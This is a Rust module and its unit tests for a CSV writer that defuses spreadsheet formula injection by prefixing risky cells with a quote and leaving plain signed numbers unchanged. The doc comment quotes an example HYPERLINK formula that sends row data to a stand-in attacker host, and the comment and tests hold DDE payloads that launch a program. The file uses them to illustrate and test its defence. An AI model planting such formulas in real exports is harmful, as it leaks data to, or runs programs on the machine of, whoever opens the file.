//! The one CSV writer of every export: the `csv` crate's writer, with spreadsheet formulas neutralised.
//!
//! A CSV file is usually opened in a spreadsheet, and a spreadsheet runs a cell that starts with `=`, `+`, `-` or
//! `@` as a formula: a stored name `=HYPERLINK("https://evil.example?"&A2, "Click")` would leak the row to whoever
//! opens the export, and DDE payloads (`=cmd|' /C calc'!A0`) can run programs. Following OWASP's rule ("CSV
//! Injection"), a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`,
//! which spreadsheets take as "this is text" and do not display.
//!
//! **One exception, on purpose: plain numbers.** A cell made only of an optional leading `+` or `-`, then digits,
//! spaces, `.` and `,` (with at least one digit right after the sign) is written as it is: a negative amount
//! (`-250.00`), a negative longitude (`-61.53`, Guadeloupe) or an international phone number (`+33123456789`, the
//! form the national standard requires). Such a cell has no letter, parenthesis, quote, `!` or `|`: it cannot name a
//! function, a reference or a DDE command, so the most a spreadsheet can make of it is a number — which is what it
//! is. Prefixing it would turn numbers into text for every consumer and make the national-standard file invalid (its
//! schema types `latitude`/`longitude` as numbers and `telephone` with a `+33…` pattern).

use std::borrow::Cow;
use std::io::Write;

pub use csv::Error;

/// Whether `cell` could be run as a formula by a spreadsheet (OWASP's leading characters), plain numbers excepted.
pub fn is_formula_risk(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    match first {
        '=' | '@' | '\t' | '\r' => true,
        '+' | '-' => !is_plain_number(&cell[1..]),
        _ => false,
    }
}

/// After the sign: a digit first, then only digits, spaces, `.` and `,`.
fn is_plain_number(rest: &str) -> bool {
    rest.starts_with(|c: char| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ','))
}

/// `cell` as it must be written: with a leading `'` when a spreadsheet could run it as a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if is_formula_risk(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer (comma-separated, `\n` line ends, quotes where needed) that neutralises every cell it writes,
/// header included. Every export writes through this type; nothing writes CSV with the `csv` crate directly.
#[derive(Debug)]
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    /// A writer into `out` (buffered inside; [`Writer::flush`] or [`Writer::into_inner`] at the end).
    pub fn from_writer(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Writes one row; each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        // One reused record: no allocation per cell unless a cell needs its prefix.
        let mut row = csv::StringRecord::new();
        for cell in record {
            row.push_field(&neutralise(cell.as_ref()));
        }
        self.inner.write_record(&row)
    }

    /// Writes what is buffered to the underlying writer and flushes it.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| {
            let kind = e.error().kind();
            std::io::Error::new(kind, e.error().to_string())
        })
    }
}

impl Writer<std::fs::File> {
    /// A writer creating (or truncating) the file at `path`.
    pub fn from_path(path: impl AsRef<std::path::Path>) -> Result<Self, Error> {
        Ok(Self {
            inner: csv::Writer::from_path(path)?,
        })
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(cells).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn formula_cells_get_a_leading_quote() {
        for (cell, expected) in [
            ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
            ("=1+1", "'=1+1"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("-1+SUM(A1)", "'-1+SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("+", "'+"),
            ("- 3", "'- 3"),
            ("+33 (0)1", "'+33 (0)1"),
        ] {
            assert_eq!(neutralise(cell), expected, "{cell:?}");
        }
    }

    #[test]
    fn plain_values_and_numbers_are_left_alone() {
        for cell in [
            "",
            "Médiathèque",
            "a=b",
            "contact@example.org",
            "12",
            "-250.00",
            "-61.534",
            "+33123456789",
            "+33 1 23 45 67 89",
            "-1,5",
            " =1",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell_and_quotes_as_csv_does() {
        assert_eq!(
            written(&["=HYPERLINK(\"x\")", "a,b", "-3", "@x"]),
            "\"'=HYPERLINK(\"\"x\"\")\",\"a,b\",-3,'@x\n"
        );
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(vec!["=1".to_owned(), "ok".to_owned()])
            .unwrap();
        w.write_record(["x", "y"]).unwrap();
        assert_eq!(
            String::from_utf8(w.into_inner().unwrap()).unwrap(),
            "'=1,ok\nx,y\n"
        );
    }

    #[test]
    fn a_neutralised_cell_reads_back_with_its_prefix_only() {
        let text = written(&["=HYPERLINK(\"x\")", "+33123456789"]);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[0], "'=HYPERLINK(\"x\")");
        assert_eq!(&row[1], "+33123456789");
    }
}
